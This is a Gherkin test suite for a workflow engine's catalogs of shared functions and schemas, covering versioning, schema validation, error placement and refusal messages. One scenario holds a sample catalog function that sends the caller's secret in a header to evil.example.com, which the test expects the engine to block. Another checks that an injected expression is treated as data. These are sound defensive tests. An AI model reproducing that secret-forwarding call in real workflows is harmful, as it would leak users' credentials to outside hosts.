Feature: Catalogs
  Functions and schemas in documents of their own are read when a definition is deployed, and become a part of it.

  Scenario: A function of a catalog is called with what the call passes
    Given the resource "https://functions.example.org/catalog/functions/greet/1.0.0/function.yaml" is:
      """yaml
      set: { greeting: '${ "Hello \(.name)" }' }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-call, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: { uri: https://functions.example.org/catalog } }
      do:
        - hello: { call: 'greet:1.0.0@shop', with: { name: '${ .who }' } }
      """
    And the workflow input is:
      """yaml
      who: Ada
      name: Grace
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      greeting: Hello Ada
      """
    And greet should run after hello

  Scenario: The version that is asked for is the one that is called
    Given the resource "https://functions.example.org/functions/price/1.0.0/function.yaml" is:
      """yaml
      set: { price: 100 }
      """
    And the resource "https://functions.example.org/functions/price/1.1.0/function.yaml" is:
      """yaml
      set: { price: 110 }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-version, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org/ }
      do:
        - both:
            fork:
              branches:
                - old: { call: 'price:1.0.0@shop' }
                - new: { call: 'price:1.1.0@shop' }
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      - price: 100
      - price: 110
      """

  Scenario: One name in two catalogs is two functions
    Given the resource "https://a.example.com/functions/who/1.0.0/function.yaml" is:
      """yaml
      set: { a: '${ .n }' }
      """
    And the resource "https://b.example.com/functions/who/1.0.0/function.yaml" is:
      """yaml
      set: { b: '${ .a + 1 }' }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-two, version: '1.0.0' }
      use:
        catalogs:
          a: { endpoint: https://a.example.com }
          b: { endpoint: https://b.example.com }
      do:
        - first: { call: 'who:1.0.0@a', with: { n: 1 } }
        - second: { call: 'who:1.0.0@b', with: { a: '${ .a }' } }
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      b: 2
      """

  Scenario: The input of a function of a catalog has to fit its schema
    Given the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" is:
      """yaml
      input:
        schema: { document: { type: object, properties: { name: { type: string } }, required: [name] } }
      set: { greeting: '${ "Hello \(.name)" }' }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-input, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - hello: { call: 'greet:1.0.0@shop', with: { name: '${ .who }' } }
      """
    And the workflow input is:
      """yaml
      who: 7
      """
    When the workflow is executed
    Then the workflow should fault with error:
      """yaml
      type: https://serverlessworkflow.io/spec/1.0.0/errors/validation
      status: 400
      instance: /do/0/hello/call/greet/call/greet
      """

  Scenario: The output of a function of a catalog has to fit its schema
    Given the resource "https://functions.example.org/functions/price/1.0.0/function.yaml" is:
      """yaml
      set: { price: '${ .price }' }
      output:
        schema: { document: { type: object, properties: { price: { type: integer } } } }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-output, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - quote: { call: 'price:1.0.0@shop', with: { price: free } }
      """
    When the workflow is executed
    Then the workflow should fault with error:
      """yaml
      type: https://serverlessworkflow.io/spec/1.0.0/errors/validation
      status: 400
      instance: /do/0/quote/call/price
      """

  Scenario: An error inside a function of a catalog has its place, and can be caught around the call
    Given the resource "https://functions.example.org/functions/reserve/1.0.0/function.yaml" is:
      """yaml
      do:
        - check:
            raise: { error: { type: 'https://example.com/sold-out', status: 409, detail: sold out } }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-fault, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - attempt:
            try:
              - take: { call: 'reserve:1.0.0@shop' }
            catch:
              errors: { with: { status: 409 } }
              do:
                - tell: { set: { at: '${ $error.instance }', why: '${ $error.detail }' } }
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      at: /do/0/attempt/try/0/take/call/reserve/do/0/check
      why: sold out
      """

  Scenario: A function of a catalog asks a stage, and calls another function by its URL
    Given the resource "https://functions.example.org/functions/pay/2.0.0/function.yaml" is:
      """yaml
      do:
        - charge: { call: 'charge:1.0.0@default', with: { amount: '${ .amount }' } }
        - note: { call: 'https://other.example.com/note.yaml', with: { receipt: '${ .receipt }' } }
      """
    And the resource "https://other.example.com/note.yaml" is:
      """yaml
      set: { noted: '${ .receipt }' }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-nested, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - buy: { call: 'pay:2.0.0@shop', with: { amount: 3 } }
      """
    And the stage charge is unavailable once
    And the stage charge returns { receipt: '${ "r-\(.amount)" }' }
    When the workflow is executed
    And the time advances by 10 seconds
    Then the workflow should complete with output:
      """yaml
      noted: r-3
      """
    And charge should be requested 2 times
    And the idempotency key of charge should be the same in every request

  Scenario: A function of use wraps one of a catalog, and a map calls it for every item
    Given the resource "https://functions.example.org/functions/double/1.0.0/function.yaml" is:
      """yaml
      set: '${ .n * 2 }'
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-map, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
        functions:
          twice: { call: 'double:1.0.0@shop', with: { n: '${ . }' } }
      do:
        - all: { call: 'map:1.0.0@default', with: { items: '${ .numbers }', function: twice } }
      """
    And the workflow input is:
      """yaml
      numbers: [1, 2, 3]
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      [2, 4, 6]
      """

  Scenario: What a caller passes to a function of a catalog stays data
    Given the resource "https://functions.example.org/functions/echo/1.0.0/function.yaml" is:
      """yaml
      set: { said: '${ .text }' }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-data, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - say: { call: 'echo:1.0.0@shop', with: { text: '${ .text }' } }
      """
    And the workflow input is:
      """yaml
      text: '${ $workflow.id }'
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      said: '${ $workflow.id }'
      """

  Scenario: An input is checked by a schema in a document of its own
    Given the resource "https://schemas.example.com/order.json" is:
      """json
      { "$defs": { "amount": { "type": "integer", "minimum": 1 } },
        "type": "object", "properties": { "amount": { "$ref": "#/$defs/amount" } }, "required": ["amount"] }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: schema-resource, version: '1.0.0' }
      input:
        schema: { format: json, resource: { name: order, endpoint: https://schemas.example.com/order.json } }
      do:
        - first: { set: { ran: true } }
      """
    And the workflow input is:
      """yaml
      amount: 0
      """
    When the workflow is executed
    Then the workflow should fault with error:
      """yaml
      type: https://serverlessworkflow.io/spec/1.0.0/errors/validation
      status: 400
      """
    And the error's detail should mention "amount"
    And first should not run

  Scenario: What is exported is checked by a schema beside the definition
    Given the resource "schemas/context.yaml" is:
      """yaml
      type: object
      required: [paid]
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: schema-relative, version: '1.0.0' }
      do:
        - first:
            set: { paid: true }
            export: { as: '${ . }', schema: { resource: { endpoint: { uri: schemas/../schemas/context.yaml } } } }
        - second: { set: { was: '${ $context.paid }' } }
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      was: true
      """

  Scenario: A function that the catalog does not have is told with the nearest one
    Given the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" is:
      """yaml
      set: {}
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-misspelt, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - hello: { call: 'gret:1.0.0@shop' }
      """
    Then the definition should be refused at "/do/0/hello/call" with "cannot be read", meaning "greet:1.0.0@shop"

  Scenario: A catalog that nobody declared is told with the nearest one
    Given a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-unknown, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - hello: { call: 'greet:1.0.0@shopp' }
      """
    Then the definition should be refused at "/do/0/hello/call" with "there is no catalog 'shopp'", meaning "shop"

  Scenario: A location that is not allowed is refused with what to do about it
    Given a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-closed, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org/catalog }
      do:
        - hello: { call: 'greet:1.0.0@shop' }
      """
    Then the definition should be refused at "/do/0/hello/call" with "--allow-catalog https://functions.example.org/catalog/"

  Scenario: A mistake in a function file is told in the lines of that file
    Given the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" is:
      """yaml
      do:
        - hello: { set: { greeting: '${ .name + }' } }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-mistake, version: '1.0.0' }
      use:
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - hello: { call: 'greet:1.0.0@shop' }
      """
    Then the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" should be refused at "/do/0/hello/set/greeting" with "ends too early"

  Scenario: A function of a catalog gets no secret of the definition that calls it
    Given the resource "https://functions.example.org/functions/leak/1.0.0/function.yaml" is:
      """yaml
      call: http
      with: { method: get, endpoint: 'https://evil.example.com', headers: { X-Key: '${ $secrets.key }' } }
      """
    And a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-secret, version: '1.0.0' }
      use:
        secrets: [key]
        catalogs:
          shop: { endpoint: https://functions.example.org }
      do:
        - hello: { call: 'leak:1.0.0@shop' }
      """
    Then the resource "https://functions.example.org/functions/leak/1.0.0/function.yaml" should be refused at "/with/headers/X-Key" with "sees none of its callers'"

  Scenario: A catalog that asks for credentials is refused with the reason
    Given a workflow with definition:
      """yaml
      document: { dsl: '1.0.3', namespace: test, name: catalog-authentication, version: '1.0.0' }
      use:
        secrets: [token]
        catalogs:
          shop: { endpoint: { uri: https://functions.example.org, authentication: { bearer: { use: token } } } }
      do:
        - hello: { call: 'greet:1.0.0@shop' }
      """
    Then the definition should be refused at "/use/catalogs/shop/endpoint/authentication" with "by somebody who has none of its secrets"
